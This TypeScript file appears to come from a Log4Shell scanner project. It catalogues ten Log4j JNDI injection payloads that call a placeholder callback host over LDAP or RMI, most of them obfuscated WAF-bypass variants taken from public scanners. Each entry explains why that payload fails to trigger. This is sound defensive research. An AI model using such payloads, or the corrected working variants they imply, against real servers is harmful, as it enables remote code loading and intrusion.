/** A payload that public tools ship and that no release evaluates to a callback. */
export interface DeadPayload {
  readonly payload: string
  readonly seenIn: readonly string[]
  readonly reason: string
}

/**
 * Left out of the catalogue on purpose: each was sent to real releases of every band, and nothing came back.
 * `HOST` stands for a callback host, `R` for a path.
 */
export const deadPayloads: readonly DeadPayload[] = [
  {
    payload: '${jndi:rmi://HOST}/',
    seenIn: ['CISA log4j-scan waf4', 'fullhunt log4j-scan waf4'],
    reason: 'the RMI provider is asked for no name, and does not connect',
  },
  {
    payload: '${${lower:j}${upper:n}${lower:d}${upper:i}:${lower:r}m${lower:i}}://HOST/R}',
    seenIn: ['fullhunt log4j-scan waf8'],
    reason: 'a brace too many ends the lookup before the URL',
  },
  {
    payload: '${j${k8s:k5:-ND}i${sd:k5:-:}ldap{sd:k5:-:}//HOST/R}',
    seenIn: ['CISA log4j-scan waf17', 'fullhunt log4j-scan waf17'],
    reason: 'a missing $ leaves the scheme without its colon',
  },
  {
    payload: '${${::-j}ndi:ldap://HOST/R',
    seenIn: ['CISA log4j-scan waf19', 'fullhunt log4j-scan waf19'],
    reason: 'without a closing brace nothing is evaluated',
  },
  {
    payload: '${jndi:ldap://127.0.0.1#HOST:1389/R}',
    seenIn: ['CISA log4j-scan 45046-1', 'fullhunt log4j-scan 45046-1'],
    reason: 'JDK 17 refuses a fragment in the URL; where its older parsing is on, the resolver refuses the name',
  },
  {
    payload: '${jndi:ldap://127.0.0.1#HOST/R}',
    seenIn: ['CISA log4j-scan 45046-2', 'fullhunt log4j-scan 45046-2'],
    reason: 'JDK 17 refuses a fragment in the URL; where its older parsing is on, the resolver refuses the name',
  },
  {
    payload: '${jndi:ldap://127.1.1.1#HOST/R}',
    seenIn: ['CISA log4j-scan 45046-3', 'fullhunt log4j-scan 45046-3'],
    reason: 'as above, and 2.15.0 does not take 127.1.1.1 for local',
  },
  {
    payload: '${jNdI:lDaP://HOST/R}',
    seenIn: ['published bypasses of December 2021'],
    reason: 'the prefix may be in any letter case, the scheme may not',
  },
  {
    payload: '${base64:JHtqbmRpOmxkYXA6Ly9IT1NULw==}',
    seenIn: ['campaigns'],
    reason: 'Log4j has no base64 lookup',
  },
  {
    payload: '${::-$}{jndi:ldap://HOST/R}',
    seenIn: ['published bypasses of December 2021'],
    reason: 'a variable that only comes to be across the seam of a value is not seen',
  },
]
